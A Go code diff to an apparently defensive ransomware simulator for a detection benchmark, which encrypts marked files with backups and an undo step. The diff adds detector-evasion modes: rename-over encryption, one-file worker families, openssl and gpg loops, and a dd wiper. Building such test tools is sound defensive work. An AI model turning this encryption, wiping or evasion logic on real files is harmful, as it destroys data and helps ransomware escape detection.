@@ -10,6 +10,7 @@
 package ransomware
 
 import (
+	"cmp"
 	"crypto/aes"
 	"crypto/cipher"
 	"crypto/rand"
@@ -22,6 +23,7 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"time"
 )
@@ -33,16 +35,52 @@ const (
 	ModeNewDelete    = "newdelete"    // write FILE+Ext, then delete the original
 	ModeIntermittent = "intermittent" // encrypt 4 KiB of every 64 KiB in place
 	ModeStriped      = "striped"      // encrypt every other 16 bytes in place (LockFile)
+	// ModeRenameOver reads each file, writes its ciphertext to FILE+TmpExt
+	// and renames that over the original: the original is never opened
+	// for writing.
+	ModeRenameOver = "renameover"
 )
 
-// Modes lists every mode.
+// Modes lists the modes one simulator process runs itself (the table of
+// the benchmark); AdaptiveModes are driven through other processes.
 var Modes = []string{ModeInPlace, ModeRename, ModeNewDelete, ModeIntermittent, ModeStriped}
+
+// Adaptive modes: no process does more than one file, or the encryption
+// is done by the machine's own tools (the simulator only drives them).
+const (
+	// ModeFamily re-executes the simulator once per file (renameover),
+	// Workers at a time, as `xargs -P` does: a family of one-file workers.
+	ModeFamily = "family"
+	// ModeOpenSSLLoop runs `openssl enc` per file and renames the output
+	// over the original (`sh -c` loop; `xargs -P Workers sh -c` with more
+	// than one worker).
+	ModeOpenSSLLoop = "openssl-loop"
+	// ModeGPGLoop does the same with `gpg -c`.
+	ModeGPGLoop = "gpg-loop"
+	// ModeDDLoop overwrites each file with random bytes by `dd` (a wiper).
+	ModeDDLoop = "dd-loop"
+)
+
+// AdaptiveModes lists the adaptive modes.
+var AdaptiveModes = []string{ModeRenameOver, ModeFamily, ModeOpenSSLLoop, ModeGPGLoop, ModeDDLoop}
+
+// Orders in which files are encrypted.
+const (
+	OrderName    = "name"    // the manifest's (walk) order
+	OrderReverse = "reverse" // reverse name order
+	OrderSize    = "size"    // largest first
+)
+
+// Orders lists every order.
+var Orders = []string{OrderName, OrderReverse, OrderSize}
 
 // Names of the marker files in DIR.
 const (
 	ManifestName = ".tillwatch-sim.json"
 	BackupDir    = ".tillwatch-sim"
 	Ext          = ".tillsim"
+	// TmpExt names the temporary a rename-over writes beside a file.
+	TmpExt = ".tillsim-tmp"
 )
 
 // Manifest records what was marked.
@@ -55,6 +93,7 @@ type Manifest struct {
 type Entry struct {
 	Path   string `json:"path"`
 	SHA256 string `json:"sha256"`
+	Size   int64  `json:"size"`
 }
 
 // Mark records every visible regular file under dir and keeps a copy of
@@ -95,7 +134,7 @@ func Mark(dir string) (*Manifest, error) {
 			return err
 		}
 		rel, _ := filepath.Rel(dir, p)
-		m.Files = append(m.Files, Entry{Path: rel, SHA256: h})
+		m.Files = append(m.Files, Entry{Path: rel, SHA256: h, Size: int64(len(b))})
 		return nil
 	})
 	if err == nil {
@@ -129,6 +168,20 @@ type Options struct {
 	Worker, Workers int
 	// Rate is this worker's files per second; 0 is as fast as possible.
 	Rate float64
+	// Order is the order of the files (OrderName when empty).
+	Order string
+}
+
+// Ordered returns m's files in the given order.
+func (m *Manifest) Ordered(order string) []Entry {
+	files := slices.Clone(m.Files)
+	switch order {
+	case OrderReverse:
+		slices.Reverse(files)
+	case OrderSize:
+		slices.SortStableFunc(files, func(a, b Entry) int { return cmp.Compare(b.Size, a.Size) })
+	}
+	return files
 }
 
 // Encrypt runs one worker over dir's marked files.
@@ -147,12 +200,13 @@ func Encrypt(dir string, m *Manifest, o Options) (int, error) {
 	}
 	n := 0
 	next := time.Now()
-	for i := o.Worker; i < len(m.Files); i += o.Workers {
+	files := m.Ordered(o.Order)
+	for i := o.Worker; i < len(files); i += o.Workers {
 		if interval > 0 {
 			time.Sleep(time.Until(next))
 			next = next.Add(interval)
 		}
-		p := filepath.Join(dir, m.Files[i].Path)
+		p := filepath.Join(dir, files[i].Path)
 		if err := encryptOne(block, p, o.Mode); err != nil {
 			return n, err
 		}
@@ -161,8 +215,26 @@ func Encrypt(dir string, m *Manifest, o Options) (int, error) {
 	return n, nil
 }
 
+// EncryptOne encrypts the marked file rel under dir (a family worker's
+// one file) in the given mode.
+func EncryptOne(dir string, m *Manifest, rel, mode string) error {
+	key, err := hex.DecodeString(m.Key)
+	if err != nil || len(key) != 32 {
+		return errors.New("manifest key is invalid")
+	}
+	if !slices.ContainsFunc(m.Files, func(e Entry) bool { return e.Path == rel }) {
+		return fmt.Errorf("%s is not a marked file of %s", rel, dir)
+	}
+	block, _ := aes.NewCipher(key)
+	return encryptOne(block, filepath.Join(dir, rel), mode)
+}
+
 func encryptOne(block cipher.Block, p, mode string) error {
-	f, err := os.OpenFile(p, os.O_RDWR, 0)
+	flags := os.O_RDWR
+	if mode == ModeRenameOver || mode == ModeFamily {
+		flags = os.O_RDONLY // the original is only read: its replacement is renamed over it
+	}
+	f, err := os.OpenFile(p, flags, 0)
 	if err != nil {
 		return err
 	}
@@ -189,12 +261,19 @@ func encryptOne(block cipher.Block, p, mode string) error {
 	default:
 		stream.XORKeyStream(b, b)
 	}
-	if mode == ModeNewDelete {
+	switch mode {
+	case ModeNewDelete:
 		if err := os.WriteFile(p+Ext, b, 0o644); err != nil {
 			return err
 		}
 		f.Close()
 		return os.Remove(p)
+	case ModeRenameOver, ModeFamily:
+		if err := os.WriteFile(p+TmpExt, b, 0o644); err != nil {
+			return err
+		}
+		f.Close()
+		return os.Rename(p+TmpExt, p)
 	}
 	if _, err := f.WriteAt(b, 0); err != nil {
 		return err
@@ -226,6 +305,7 @@ func Undo(dir string) (int, error) {
 		}
 		p := filepath.Join(dir, e.Path)
 		_ = os.Remove(p + Ext)
+		_ = os.Remove(p + TmpExt)
 		if cur, err := os.ReadFile(p); err == nil {
 			if sum := sha256.Sum256(cur); hex.EncodeToString(sum[:]) == e.SHA256 {
 				continue
